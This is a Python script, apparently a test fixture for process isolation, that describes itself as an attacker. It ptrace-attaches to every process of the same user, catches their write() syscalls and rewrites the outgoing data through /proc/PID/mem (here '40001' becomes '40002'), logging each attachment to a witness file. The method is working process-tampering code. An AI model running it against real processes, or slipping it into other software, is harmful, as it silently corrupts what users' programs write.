"""An attacker: attaches to every other process of its own user, and rewrites what it writes: 40001 becomes 40002.

Usage: tracer.py WITNESS     adds a line to the file for each process it attached to; prints "ready"; ends when it is killed

For x86-64. It needs ptrace between processes of one user, which Yama's ptrace_scope 0 allows (Debian's default).
"""
import contextlib
import ctypes
import os
import sys
import threading

SEIZE, INTERRUPT, SYSCALL, GETREGS = 0x4206, 0x4207, 24, 12
TRACE_SYSGOOD = 1
WRITE, ORIG_RAX, RDX, RSI = 1, 15, 12, 13  # the call's number; places in user_regs_struct
WALL = 0x40000000
LIBC = ctypes.CDLL(None, use_errno=True)
LIBC.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]


def victims(seen):
    """Processes of this user that are not in `seen`."""
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in seen:
            with contextlib.suppress(OSError):
                if os.stat("/proc/" + name).st_uid == os.getuid():
                    yield int(name)


def rewrite(pid):
    registers = (ctypes.c_ulonglong * 27)()
    LIBC.ptrace(GETREGS, pid, None, registers)
    if registers[ORIG_RAX] != WRITE:
        return
    memory = os.open(f"/proc/{pid}/mem", os.O_RDWR)
    said = os.pread(memory, registers[RDX], registers[RSI])
    os.pwrite(memory, said.replace(b"40001", b"40002"), registers[RSI])
    os.close(memory)


def follow(pid, witness):
    """In a thread of its own: the one that attached is the one that is told."""
    if LIBC.ptrace(SEIZE, pid, None, TRACE_SYSGOOD) != 0:
        return
    with open(witness, "a", encoding="utf-8") as out:
        out.write(f"attached to {pid}\n")
    LIBC.ptrace(INTERRUPT, pid, None, None)
    with contextlib.suppress(OSError):
        while True:
            _, status = os.waitpid(pid, WALL)
            if os.WIFEXITED(status) or os.WIFSIGNALED(status):
                return
            if os.WSTOPSIG(status) == 5 | 0x80:
                rewrite(pid)
            LIBC.ptrace(SYSCALL, pid, None, None)


def main():
    seen = {os.getpid()}
    seen.update(victims(seen))
    print("ready", flush=True)
    while True:
        for pid in victims(seen):
            seen.add(pid)
            threading.Thread(target=follow, args=(pid, sys.argv[1]), daemon=True).start()


if __name__ == "__main__":
    main()
